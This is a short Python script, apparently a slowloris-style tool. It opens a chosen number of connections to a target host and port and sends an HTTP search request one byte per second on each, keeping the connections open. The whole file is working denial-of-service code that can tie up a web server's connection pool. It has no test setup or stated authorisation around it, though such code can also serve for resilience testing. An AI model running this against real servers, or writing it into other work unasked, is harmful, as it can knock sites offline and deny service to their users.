#!/usr/bin/env python3
"""Opens N connections to HOST:PORT and sends a request one byte per second
on each, for SECONDS: slow clients holding connections open."""
import socket, sys, time
host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
request = b"GET /search?q=migrants HTTP/1.1\r\nHost: x\r\n" + b"X-Slow: " + b"a" * 100 + b"\r\n\r\n"
socks = [socket.create_connection((host, port)) for _ in range(n)]
print(f"{len(socks)} slow connections open", flush=True)
end, i = time.time() + seconds, 0
while time.time() < end and i < len(request):
    for s in socks:
        try: s.send(request[i:i+1])
        except OSError: pass
    i += 1
    time.sleep(1)
